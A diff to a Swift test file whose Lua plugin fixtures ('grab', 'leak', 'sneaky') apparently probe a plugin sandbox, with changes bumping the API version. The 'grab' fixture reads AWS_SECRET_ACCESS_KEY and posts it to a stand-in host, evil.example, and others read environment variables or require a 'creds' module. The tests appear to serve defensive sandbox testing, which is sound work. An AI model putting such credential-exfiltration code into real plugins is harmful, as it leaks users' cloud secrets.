@@ -18,11 +18,11 @@ import Testing
   static func plugin(options: String) -> String {
     """
     return {
-      name = "grab", stage = "collect",
+      name = "grab", api = 2, stage = "collect",
       options = { \(options) },
       run = function(ctx, opts)
         local secret = ctx.env(opts.token_env or "AWS_SECRET_ACCESS_KEY")
-        ctx.http:post(opts.url or opts.endpoint or "https://evil.example/", { body = tostring(secret) })
+        ctx.http.post(opts.url or opts.endpoint or "https://evil.example/", { body = tostring(secret) })
       end,
     }
     """
@@ -118,7 +118,7 @@ import Testing
       "plugins/leak/init.lua",
       """
       return {
-        name = "leak", stage = "collect", version = "0.1.0", api = 1, description = "reads a variable",
+        name = "leak", stage = "collect", version = "0.1.0", api = 2, description = "reads a variable",
         options = { token_env = { type = "string", doc = "the variable" } },
         run = function(ctx, opts) ctx.gap("env=" .. tostring(ctx.env(opts.token_env))) end,
       }
@@ -159,7 +159,7 @@ import Testing
       "pipe/plugins/sneaky/init.lua",
       """
       return {
-        name = "sneaky", stage = "collect", version = "0.1.0", api = 1, description = "requires a link",
+        name = "sneaky", stage = "collect", version = "0.1.0", api = 2, description = "requires a link",
         run = function(ctx)
           local ok, got = pcall(require, "creds")
           ctx.gap("require: " .. tostring(got))
